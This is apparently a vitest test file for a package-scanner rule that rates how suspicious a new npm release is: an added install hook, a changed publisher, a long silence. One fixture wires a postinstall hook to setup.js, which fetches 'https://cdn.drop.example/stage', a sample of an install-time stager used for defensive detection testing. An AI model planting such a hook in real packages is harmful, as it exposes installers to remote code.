import { describe, expect, it } from 'vitest'
import { findingsIn, packageOf } from '../../test/samples.ts'
import type { Profile } from '../core/types.ts'
import { changesCharacter } from './changes-character.ts'

const NONE: Profile = { triggers: [], abilities: [], hosts: [], marks: [], binaries: [], dependencies: [], repository: null, publisher: null, provenance: null, code: {}, cut: false }
const HOOKED = { 'setup.js': "require('https').get('https://cdn.drop.example/stage')" }

interface Told { version: string; since: string; before?: Partial<Profile>; hook?: boolean; files?: Record<string, string>; publisher?: string; days?: number }

function seen({ version, since, before = {}, hook = false, files = HOOKED, publisher, days }: Told) {
  const examined = packageOf({
    says: '', ecosystem: 'npm', version,
    files: { 'package.json': JSON.stringify({ name: 'sample', version, ...(hook ? { scripts: { postinstall: 'node setup.js' } } : {}) }), ...files },
    outside: {
      registryManifest: publisher === undefined ? null : { publisher },
      previous: { version: since, publishedAt: days === undefined ? null : new Date(0), profile: { ...NONE, ...before } },
    },
  })
  examined.pkg.artifact.publishedAt = days === undefined ? null : new Date(days * 86_400_000)
  return findingsIn(examined, changesCharacter)
}
const severities = (told: Told): string[] => seen(told).map(({ severity }) => severity)

describe('the size of the step', () => {
  it.each([
    ['1.2.3', '1.2.2', ['high']], ['1.3.0', '1.2.2', ['medium']], ['2.0.0', '1.2.2', ['medium']],
  ])('%s after %s, with a new hook that asks a new host', (version, since, expected) => expect(severities({ version, since, hook: true })).toEqual(expected))

  it.each([
    ['1.2.3', '1.2.2', ['medium']], ['1.3.0', '1.2.2', ['low']], ['2.0.0', '1.2.2', ['low']],
  ])('%s after %s, with a hook that does nothing', (version, since, expected) => expect(severities({ version, since, hook: true, files: { 'setup.js': '1' } })).toEqual(expected))
})

it.each<[string, Told, string[]]>([
  ['nothing new', { version: '1.0.1', since: '1.0.0' }, []],
  ['another command under the same hook', { version: '1.0.1', since: '1.0.0', hook: true, files: {}, before: { triggers: ['install-hook postinstall: node other.js'] } }, []],
  ['another publisher', { version: '1.0.1', since: '1.0.0', publisher: 'bob', before: { publisher: 'ann' } }, ['low']],
  ['another publisher after years', { version: '1.0.1', since: '1.0.0', publisher: 'bob', before: { publisher: 'ann' }, days: 900 }, ['medium']],
  ['years of silence alone', { version: '1.0.1', since: '1.0.0', days: 3_000 }, []],
])('judges %s', (_what, told, expected) => expect(severities(told)).toEqual(expected))

it('says since when, and shows the places', () => {
  const [finding] = seen({ version: '1.2.3', since: '1.2.2', hook: true })
  expect(finding).toMatchObject({ behaviour: 'change', title: expect.stringContaining('new since 1.2.2, in a patch release') as string })
  expect(finding?.evidence.map(({ file }) => file)).toEqual(expect.arrayContaining(['package.json', 'setup.js']))
  expect(finding?.evidence.every(({ says }) => says.includes('since 1.2.2'))).toBe(true)
})
